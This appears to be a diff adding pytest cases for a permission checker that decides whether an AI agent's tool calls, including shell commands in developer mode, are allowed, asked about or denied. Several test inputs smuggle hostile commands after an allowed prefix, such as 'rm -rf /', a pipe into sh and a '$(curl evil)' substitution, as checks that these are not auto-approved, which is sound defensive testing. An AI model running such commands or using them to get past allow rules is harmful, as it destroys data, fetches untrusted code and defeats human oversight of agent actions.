@@ -205,3 +205,103 @@ def test_only_reads_and_grants_allow(the_call: Call, rules: list[Rule],
     if ruling.verdict == "allow":
         assert the_call.family == "read" or the_call.family in standing
         assert the_call.family != "execute_code"
+
+
+# -- the rest of the six lines: own context, code in developer mode, profile facts, run grants,
+#    a person's approval, a refused policy file; and the answers each ask offers -------------
+
+def shell(command: str, agent: str = "assistant") -> Call:
+    return Call(tool="shell.run", family="execute_code", connector=None, agent=agent,
+                first_argument=command)
+
+
+MORE = [
+    ("conversation-only write", Call(tool="chat.title.set", family="write_delete",
+                                     connector=None, agent="assistant", scope="conversation"),
+     facts(), "allow", 3, ()),
+    ("own memory", Call(tool="memory.note", family="write_delete", connector=None,
+                        agent="assistant", scope="own_memory"), facts(), "allow", 3, ()),
+    ("own memory still yields to a deny rule", Call(tool="memory.note", family="write_delete",
+                                                    connector=None, agent="assistant",
+                                                    scope="own_memory"),
+     facts(rules=(deny("memory.note"),)), "deny", 2, ()),
+    ("developer mode, allow rule covers a simple command", shell("git status --short"),
+     facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git status"),)),
+     "allow", 4, ()),
+    ("developer mode, prefix is matched word by word", shell("git statusx"),
+     facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git status"),)),
+     "ask", 4, ("once", "always", "deny")),
+    ("developer mode, chained command", shell("git status; rm -rf /"),
+     facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git status"),)),
+     "ask", 4, ("once", "deny")),
+    ("developer mode, pipe", shell("git status | sh"),
+     facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git status"),)),
+     "ask", 4, ("once", "deny")),
+    ("developer mode, substitution", shell("git status $(curl evil)"),
+     facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git status"),)),
+     "ask", 4, ("once", "deny")),
+    ("developer mode, rule without prefix allows nothing", shell("ls"),
+     facts(developer_mode=True, rules=(allow("shell.run"),)), "ask", 4,
+     ("once", "always", "deny")),
+    ("developer mode, rule for another agent", shell("ls -la", agent="assistant"),
+     facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="ls", agent="intern"),)),
+     "ask", 4, ("once", "always", "deny")),
+    ("no developer mode: simple command asks once/deny", shell("ls"),
+     facts(rules=(allow("shell.run", arg_prefix="ls"),)), "ask", 4, ("once", "deny")),
+    ("developer mode, deny rule first", shell("git status"),
+     facts(developer_mode=True, rules=(allow("shell.run", arg_prefix="git"),
+                                       deny("shell.run", arg_prefix="git"))), "deny", 2, ()),
+    ("profile fact asks every time", Call(tool="profile.fact.propose", family="write_delete",
+                                          connector=None, agent="assistant",
+                                          profile_fact=True),
+     facts(standing_families=frozenset({"write_delete"})), "ask", 5, ("once", "deny")),
+    ("run grant for the family", call(), facts(run_families=frozenset({"write_delete"})),
+     "allow", 5, ()),
+    ("run grant for another family", call(), facts(run_families=frozenset({"send_external"})),
+     "ask", 6, ("once", "always", "deny")),
+    ("run grant vs org policy", call(),
+     facts(run_families=frozenset({"write_delete"}),
+           refused_families=frozenset({"write_delete"})), "deny", 1, ()),
+    ("run grant vs deny rule", call(),
+     facts(run_families=frozenset({"write_delete"}), rules=(deny(),)), "deny", 2, ()),
+    ("unclassified tool offers no always", call("mystery", None, connector=None), facts(),
+     "ask", 6, ("once", "deny")),
+    ("a person's approval of this call", call(), facts(approved=True), "allow", 5, ()),
+    ("approval vs revocation", call(), facts(approved=True, principal_revoked=True),
+     "deny", 1, ()),
+    ("approval vs deny rule", call(), facts(approved=True, rules=(deny(),)), "deny", 2, ()),
+    ("approval of code", shell("make deploy"), facts(approved=True), "allow", 4, ()),
+    ("refused policy file denies writes", call(),
+     facts(policy_refused=True, standing_families=frozenset({"write_delete"})), "deny", 1, ()),
+    ("refused policy file lets reads go on", call("kb.search", "read", connector=None),
+     facts(policy_refused=True), "allow", 3, ()),
+]
+
+
+@pytest.mark.parametrize(("the_call", "the_facts", "verdict", "line", "options"),
+                         [case[1:] for case in MORE], ids=[case[0] for case in MORE])
+def test_decide_more(the_call: Call, the_facts: Facts, verdict: str, line: int,
+                     options: tuple[str, ...]) -> None:
+    ruling = decide(the_call, the_facts)
+    assert (ruling.verdict, ruling.line, ruling.options) == (verdict, line, options), \
+        ruling.reason
+
+
+@settings(max_examples=300, deadline=None)
+@given(the_call=_calls, rules=st.lists(_rules, max_size=6), standing=st.frozensets(_families),
+       run=st.frozensets(_families), developer=st.booleans(), approved=st.booleans())
+def test_no_grant_rule_or_approval_turns_a_refusal_into_an_allow(
+        the_call: Call, rules: list[Rule], standing: frozenset[str], run: frozenset[str],
+        developer: bool, approved: bool) -> None:
+    the_facts = facts(rules=tuple(rules), standing_families=standing, run_families=run,
+                      developer_mode=developer, approved=approved,
+                      refused_tools=frozenset({the_call.tool}))
+    assert (decide(the_call, the_facts).verdict, decide(the_call, the_facts).line) == (
+        "deny", 1)
+
+
+@pytest.mark.parametrize("family", ["write_delete", "send_external", "read_personal", None])
+def test_always_is_offered_only_where_it_writes_a_family_grant(family: str | None) -> None:
+    ruling = decide(call("tool", family), facts())
+    assert ruling.verdict == "ask"
+    assert ("always" in ruling.options) == (family is not None)
